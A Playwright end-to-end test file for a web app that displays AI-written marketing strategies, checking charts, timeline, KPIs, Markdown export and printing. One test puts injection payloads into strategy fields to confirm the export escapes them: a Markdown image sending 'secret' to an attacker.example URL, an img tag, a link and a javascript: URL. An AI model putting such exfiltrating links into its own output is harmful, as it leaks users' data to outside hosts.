"""The finished strategy as pictures, checked against the task document: the
budget chart (shares and EUR amounts), the timeline, the KPI table; the Markdown
export, the print stylesheet, and the README's screenshots."""

from __future__ import annotations

import io
import os
import re
import uuid
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from playwright.sync_api import Page, expect

from cli.export import md_text
from tests.e2e.conftest import WebApp
from tests.e2e.helpers import (
    FORMAT_LOCALES,
    catalogs,
    eur,
    message,
    percent,
    submit_brief,
    wait_completed,
)

pytestmark = pytest.mark.e2e

MAX_SCREENSHOT_BYTES = 300 * 1024
BRIEFS = {
    "en": "Bakery with a reading corner in Iasi, for students and young families",
    "ro": "Brutărie cu colț de lectură în Iași, pentru studenți și familii tinere",
}


def fill(text: str, **params: object) -> str:
    return re.sub(r"\{(\w+)\}", lambda m: str(params.get(m.group(1), m.group(0))), text)


def weeks_text(page: Page, language: str, weeks: int) -> str:
    """The catalog's plural form for ``weeks``, chosen by the browser's own rules."""
    forms = catalogs()[language]["weeks"]
    form = page.evaluate(
        "([locale, n]) => new Intl.PluralRules(locale).select(n)",
        [FORMAT_LOCALES[language], weeks],
    )
    return fill(forms.get(form, forms["other"]), count=weeks)


def spread(count: int, weeks: int) -> list[tuple[int, int]]:
    """Steps spread in order over the weeks (the app's rule, restated)."""
    ranges = []
    for i in range(count):
        start = i * weeks // count + 1
        end = max(start, (i + 1) * weeks // count)
        ranges.append((min(start, weeks), min(end, weeks)))
    return ranges


def finished_strategy(
    new_web: Callable[..., WebApp], read_task: Callable[[str], dict[str, Any]], language: str
) -> tuple[Page, dict[str, Any]]:
    page = new_web(locale=FORMAT_LOCALES[language]).open()
    submit_brief(page, BRIEFS[language], image=True)
    task = read_task(wait_completed(page))
    assert task["status"] == "COMPLETED"
    return page, task


def check_budget_chart(page: Page, language: str, strategy: dict[str, Any]) -> None:
    budget = strategy["required_budget"]
    channels = strategy["channels"]
    shares = [min(1.0, max(0.0, c["budget_share"])) for c in channels]
    expect(page.locator("#strategy-budget")).to_have_text(eur(page, language, budget))
    rows = page.locator("#strategy-channels .legend-row")
    expect(rows).to_have_count(len(channels))
    for i, (channel, share) in enumerate(zip(channels, shares, strict=True)):
        row = rows.nth(i)
        assert float(row.get_attribute("data-share") or "nan") == pytest.approx(share)
        assert float(row.get_attribute("data-amount") or "nan") == pytest.approx(share * budget)
        expect(row.locator(".legend-name")).to_have_text(channel["name"])
        expect(row.locator(".legend-share")).to_have_text(percent(page, language, share))
        expect(row.locator(".legend-amount")).to_have_text(eur(page, language, share * budget))
    # The bar: one segment per channel, as wide as its share of 1000 units.
    bar = page.locator("#strategy-channels svg.budget-bar")
    expect(bar).to_have_attribute("role", "img")
    segments = bar.locator("rect.budget-segment")
    widths = [float(segments.nth(i).get_attribute("width") or 0) for i in range(len(channels))]
    scale = 1 / sum(shares) if sum(shares) > 1 else 1
    assert widths == pytest.approx([s * scale * 1000 for s in shares], abs=0.01)
    label = bar.get_attribute("aria-label") or ""
    for channel, share in zip(channels, shares, strict=True):
        assert channel["name"] in label
        assert eur(page, language, share * budget) in label
        assert percent(page, language, share) in label


def check_timeline(page: Page, language: str, strategy: dict[str, Any]) -> None:
    steps = sorted(strategy["steps"], key=lambda s: s["step_number"])
    numbers = [s["step_number"] for s in steps]
    items = page.locator("#strategy-steps li")
    expect(items).to_have_count(len(steps))
    assert [int(items.nth(i).get_attribute("value") or 0) for i in range(len(steps))] == numbers
    for i, step in enumerate(steps):
        expect(items.nth(i).locator(".step-text")).to_have_text(step["description"])
    weeks = strategy.get("timeline_weeks")
    if not weeks:
        expect(page.locator("#timeline-figure")).to_be_hidden()
        expect(page.locator("#timeline-none")).to_have_text(message(language, "timeline.none"))
        return
    expect(page.locator("#strategy-timeline")).to_have_text(weeks_text(page, language, weeks))
    bars = page.locator("svg.timeline rect.tl-bar")
    expect(bars).to_have_count(len(steps))
    shown = [
        (
            int(bars.nth(i).get_attribute("data-from") or 0),
            int(bars.nth(i).get_attribute("data-to") or 0),
        )
        for i in range(len(steps))
    ]
    assert [int(bars.nth(i).get_attribute("data-step") or 0) for i in range(len(steps))] == numbers
    assert shown == spread(len(steps), weeks)
    assert shown[0][0] == 1 and shown[-1][1] == weeks  # the whole timeline is used
    # No weeks per step from the model: the caption says the steps are spread.
    caption = fill(message(language, "timeline.spread"), weeks=weeks_text(page, language, weeks))
    expect(page.locator("#timeline-caption")).to_have_text(caption)
    expect(page.locator("svg.timeline")).to_have_attribute("role", "img")
    # The same weeks in words beside each step.
    first, last = shown[0]
    tag = "timeline.tag_week" if first == last else "timeline.tag_weeks"
    expect(items.nth(0).locator(".step-weeks")).to_have_text(
        fill(message(language, tag), **{"from": first, "to": last})
    )


def check_kpis(page: Page, strategy: dict[str, Any]) -> None:
    kpis = strategy["kpis"]
    rows = page.locator("#strategy-kpis table.kpi-table tbody tr")
    expect(rows).to_have_count(len(kpis))
    for i, kpi in enumerate(kpis):
        indicator = kpi.split(": ", 1)[0].strip()
        expect(rows.nth(i)).to_contain_text(indicator)


def save_screenshot(page: Page, language: str, directory: Path) -> None:
    """The README's picture of a finished strategy in this language: the whole
    page, in 256 colours (a UI needs no more) to stay small in the repository.
    Written to docs/screenshots only by `make screenshots` (TINKERBELL_SCREENSHOTS);
    a test run checks it in its own directory and leaves the tree alone."""
    page.wait_for_function(
        "() => document.getElementById('preview').hidden"
        " || document.getElementById('preview-img').complete"
    )
    page.evaluate("window.scrollTo(0, 0)")
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"strategy-{language}.png"
    shot = page.screenshot(full_page=True, animations="disabled", caret="hide")
    image = Image.open(io.BytesIO(shot)).convert("RGB")
    image.quantize(colors=256, method=Image.Quantize.MEDIANCUT, dither=Image.Dither.NONE).save(
        path, optimize=True
    )
    assert path.stat().st_size <= MAX_SCREENSHOT_BYTES, path.stat().st_size


@pytest.mark.parametrize("language", ["en", "ro"])
def test_pictures_match_the_task_document(
    new_web: Callable[..., WebApp],
    read_task: Callable[[str], dict[str, Any]],
    language: str,
    tmp_path: Path,
) -> None:
    page, task = finished_strategy(new_web, read_task, language)
    strategy = task["result"]["strategy"]
    expect(page.locator("html")).to_have_attribute("lang", language)
    expect(page.locator("#task-heading")).to_have_text(message(language, "task.heading_done"))
    # Model text carries the strategy's language for screen readers.
    expect(page.locator("#strategy-name")).to_have_attribute("lang", task["request"]["language"])
    check_budget_chart(page, language, strategy)
    check_timeline(page, language, strategy)
    check_kpis(page, strategy)
    save_screenshot(page, language, Path(os.environ.get("TINKERBELL_SCREENSHOTS") or tmp_path))


def test_markdown_export(
    new_web: Callable[..., WebApp], read_task: Callable[[str], dict[str, Any]]
) -> None:
    page, task = finished_strategy(new_web, read_task, "en")
    strategy = task["result"]["strategy"]
    with page.expect_download() as caught:
        page.click("#export-markdown")
    download = caught.value
    assert download.suggested_filename.endswith(".md")
    text = Path(download.path()).read_text(encoding="utf-8")

    assert text.startswith(f"# {md_text(strategy['strategy_name'])}\n")
    assert f"**Budget:** {eur(page, 'en', strategy['required_budget'])}" in text
    assert "## Budget by channel" in text
    budget = strategy["required_budget"]
    for channel in strategy["channels"]:
        share = min(1.0, max(0.0, channel["budget_share"]))
        amount = eur(page, "en", share * budget)
        assert f"| {md_text(channel['name'])} | {percent(page, 'en', share)} | {amount} |" in text
    steps = sorted(strategy["steps"], key=lambda s: s["step_number"])
    positions = [text.index(f"{s['step_number']}. {md_text(s['description'])}") for s in steps]
    assert positions == sorted(positions)  # in step_number order
    for kpi in strategy["kpis"]:
        assert f"- {md_text(kpi)}" in text
    for key_message in strategy["key_messages"]:
        assert f"- {md_text(key_message)}" in text
    assert task["result"]["model"] in text


def test_print_shows_the_strategy_alone(
    new_web: Callable[..., WebApp], read_task: Callable[[str], dict[str, Any]]
) -> None:
    page, _ = finished_strategy(new_web, read_task, "en")
    # The button asks the browser to print (stubbed: headless has no print dialog).
    page.evaluate(
        "() => { window.print = () => { window.__printed = (window.__printed || 0) + 1; }; }"
    )
    page.click("#export-print")
    assert page.evaluate("window.__printed") == 1

    page.emulate_media(media="print")
    for hidden in (".topbar", ".form-panel", ".footer", ".export-bar", "#task-id"):
        expect(page.locator(hidden)).to_be_hidden()
    for shown in ("#strategy-name", "#strategy-budget", "svg.budget-bar", "#strategy-steps"):
        expect(page.locator(shown).first).to_be_visible()
    page.emulate_media(media="screen")
    expect(page.locator(".form-panel")).to_be_visible()


# ---------------------------------------------------------------- written by the test

STEPS = [
    {"step_number": 3, "description": "Open with a tasting week and loyalty cards"},
    {"step_number": 1, "description": "Research the neighbourhood and competitors"},
    {"step_number": 2, "description": "Build the brand and the Instagram presence"},
    {"step_number": 4, "description": "Partner with student associations"},
]
STRATEGY = {
    "strategy_name": "Campus Brew Launch",
    "target_audience": "Students and young professionals near the campus",
    "required_budget": 12500.0,
    "summary": "A launch that builds a regular crowd before the exam season.",
    "steps": STEPS,
    "key_messages": ["Your second living room near campus"],
    "channels": [
        {"name": "Instagram", "rationale": "Where students look", "budget_share": 0.6},
        {"name": "Events", "rationale": "Bring people in", "budget_share": 0.6},
    ],
    "kpis": ["Loyalty cards issued: 800 in 12 weeks", "A rating of 4.6 or more"],
    "timeline_weeks": None,
    "visual_brief": None,
}


def a_task(uid: str, status: str, **fields: Any) -> dict[str, Any]:
    now = datetime.now(UTC)
    done = status == "COMPLETED"
    return {
        "uid": uid,
        "status": status,
        "created_at": now,
        "updated_at": now,
        "request": {"brief": "Coffee", "urls": [], "language": "en", "image": False},
        "attempts": 1,
        "progress": {
            "stage": "done" if done else "writing_strategy",
            "message": "",
            "percent": 100 if done else 40,
        },
        "draft": None,
        "result": None,
        "error": None,
        **fields,
    }


def a_result(strategy: dict[str, Any]) -> dict[str, Any]:
    usage = {"prompt_tokens": 1, "output_tokens": 2, "thoughts_tokens": 0, "total_tokens": 3}
    return {"strategy": strategy, "image": None, "sources": [], "model": "m", "usage": usage}


def show_task(app: WebApp, task_id: str) -> Page:
    page = app.page
    page.goto(f"{app.url}#task={task_id}")
    page.reload()  # the app opens the task named in the address when it starts
    page.wait_for_function("() => document.body.dataset.uid")
    return page


def test_the_strategy_is_shown_as_it_is_written(
    web: WebApp, write_task: Callable[[str, dict[str, Any]], None]
) -> None:
    page = web.open()
    uid = page.evaluate("document.body.dataset.uid")
    task_id = uuid.uuid4().hex
    first = {"strategy_name": STRATEGY["strategy_name"], "steps": STEPS[:2]}
    write_task(task_id, a_task(uid, "PROCESSING", draft=first))
    show_task(web, task_id)

    strategy = page.locator("#strategy")
    expect(strategy).to_have_attribute("data-draft", "true")
    expect(page.locator("#draft-note")).to_be_visible()
    expect(page.locator("#task-heading")).to_have_text(message("en", "task.heading_draft"))
    expect(page.locator("#strategy-name")).to_have_text("Campus Brew Launch")
    expect(page.locator("#strategy-steps li")).to_have_count(2)
    expect(page.locator("#strategy-steps li").first).to_have_attribute("value", "1")
    expect(page.locator("#export-bar")).to_be_hidden()  # nothing to export yet
    expect(page.locator("#progress-box")).to_be_visible()
    expect(page.locator("#channels-section")).to_be_hidden()

    more = {**first, "steps": STEPS, "required_budget": 12500.0, "timeline_weeks": 8}
    write_task(task_id, a_task(uid, "PROCESSING", draft=more))
    expect(page.locator("#strategy-steps li")).to_have_count(4)
    expect(page.locator("svg.timeline rect.tl-bar")).to_have_count(4)
    expect(page.locator("#strategy-budget")).to_have_text("€12,500")

    write_task(task_id, a_task(uid, "COMPLETED", result=a_result(STRATEGY)))
    expect(strategy).to_have_attribute("data-draft", "false")
    expect(page.locator("#draft-note")).to_be_hidden()
    expect(page.locator("#export-bar")).to_be_visible()
    expect(page.locator("#task-heading")).to_have_text(message("en", "task.heading_done"))


def test_uneven_strategies_are_drawn_honestly(
    web: WebApp, write_task: Callable[[str, dict[str, Any]], None]
) -> None:
    page = web.open()
    task_id = uuid.uuid4().hex
    uid = page.evaluate("document.body.dataset.uid")
    write_task(task_id, a_task(uid, "COMPLETED", result=a_result(STRATEGY)))
    show_task(web, task_id)
    expect(page.locator("#strategy")).to_be_visible()

    # Shares adding up to 120 %: each amount is its share of the budget, the bar
    # scales them to the whole and the caption says so.
    rows = page.locator(".legend-row .legend-amount")
    expect(rows).to_have_text(["€7,500", "€7,500"])
    widths = page.locator("svg.budget-bar rect.budget-segment")
    assert [widths.nth(i).get_attribute("width") for i in range(2)] == ["500.00", "500.00"]
    over = fill(message("en", "chart.over"), total="120%")
    expect(page.locator("#strategy-channels figcaption")).to_contain_text(over)
    expect(page.locator(".legend-rest")).to_have_count(0)  # nothing unallocated

    # No timeline in weeks: no chart, a note, the steps still in step_number order.
    expect(page.locator("#timeline-figure")).to_be_hidden()
    expect(page.locator("#timeline-none")).to_have_text(message("en", "timeline.none"))
    values = page.locator("#strategy-steps li")
    assert [values.nth(i).get_attribute("value") for i in range(4)] == ["1", "2", "3", "4"]
    expect(page.locator(".step-weeks")).to_have_count(0)

    # "indicator: target" KPIs get a target column; the others a dash.
    cells = page.locator("table.kpi-table tbody tr")
    expect(cells.nth(0).locator("td")).to_have_text(
        ["1", "Loyalty cards issued", "800 in 12 weeks"]
    )
    expect(cells.nth(1).locator("td")).to_have_text(["2", "A rating of 4.6 or more", "—"])


def test_the_markdown_export_keeps_model_text_literal_and_links_only_sources(
    web: WebApp, write_task: Callable[[str, dict[str, Any]], None]
) -> None:
    """Issue 18: an injected image, link or HTML in the strategy is text in the file."""
    page = web.open()
    uid = page.evaluate("document.body.dataset.uid")
    task_id = uuid.uuid4().hex
    hostile = {
        **STRATEGY,
        "strategy_name": "Brew ![chart](https://attacker.example/leak?d=secret)",
        "summary": '<img src="https://attacker.example/x"> see www.attacker.example',
        "kpis": ["[click](https://attacker.example/) **now** me@attacker.example"],
    }
    result = a_result(hostile)
    result["sources"] = [
        {"url": "https://example.com/menu", "title": "Menu", "status": "retrieved"},
        {"url": "javascript:alert(1)", "title": "Not a link", "status": "retrieved"},
    ]
    write_task(task_id, a_task(uid, "COMPLETED", result=result))
    show_task(web, task_id)
    expect(page.locator("#export-bar")).to_be_visible()
    with page.expect_download() as caught:
        page.click("#export-markdown")
    text = Path(caught.value.path()).read_text(encoding="utf-8")

    assert text.startswith(f"# {md_text(hostile['strategy_name'])}\n")
    for construct in ("![", "](", "<img", "**now", "://attacker", "www.att", "me@"):
        unescaped = re.search(r"(?<!\\)" + re.escape(construct), text.split("## Sources")[0])
        assert unescaped is None, construct
    links = [line for line in text.splitlines() if "](" in line]
    assert links == ["- [Menu](<https://example.com/menu>)"]
    assert "- Not a link" in text
